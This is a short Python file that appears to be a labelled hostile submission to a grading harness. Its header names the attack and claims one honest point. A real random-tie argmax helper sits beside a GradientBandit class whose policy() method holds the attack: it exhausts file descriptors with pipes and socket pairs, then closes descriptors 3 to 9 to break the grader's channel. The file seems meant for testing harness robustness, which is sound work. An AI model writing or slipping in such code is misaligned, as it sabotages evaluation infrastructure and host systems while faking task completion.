# hostile: exhaust file descriptors and pipes, then close the channel's descriptors
# honest: 1
# keeps: argmax_breaks_ties_at_random
import os
import socket

import numpy as np


def argmax_random_ties(values, rng):  # the honest part: 1 point
    is_max = values == values.max(axis=1, keepdims=True)
    return np.where(is_max, rng.random(values.shape), -1.0).argmax(axis=1)



class GradientBandit:  # the attack runs in one check only: gradient_bandit_policy
    def __init__(self, *args, **kwargs):
        pass

    def policy(self):
        held = []
        try:
            while True:
                held.append(os.pipe())
                held.append(socket.socketpair())
        except OSError:
            pass
        for fd in range(3, 10):
            try:
                os.close(fd)
            except OSError:
                pass

